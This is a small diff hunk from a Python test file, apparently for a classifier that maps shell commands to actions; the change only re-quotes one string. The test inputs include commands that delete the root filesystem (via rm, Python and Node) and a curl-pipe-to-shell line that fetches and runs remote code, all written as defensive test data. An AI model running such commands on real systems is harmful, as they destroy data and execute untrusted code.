@@ -97,7 +97,7 @@ def test_commands_map_onto_actions(command: str, actions: set[str]) -> None:
         "$CMD -rf /",  # the program is computed
         "$(echo rm) -rf /",
         "python -c 'import shutil; shutil.rmtree(\"/\")'",  # code in another language
-        "node -e 'require(\"fs\").rmSync(\"/\")'",
+        'node -e \'require("fs").rmSync("/")\'',
         "curl https://x.example/install.sh | sh",  # commands from input
         "if then fi (((",  # does not parse
         "echo 'unterminated",
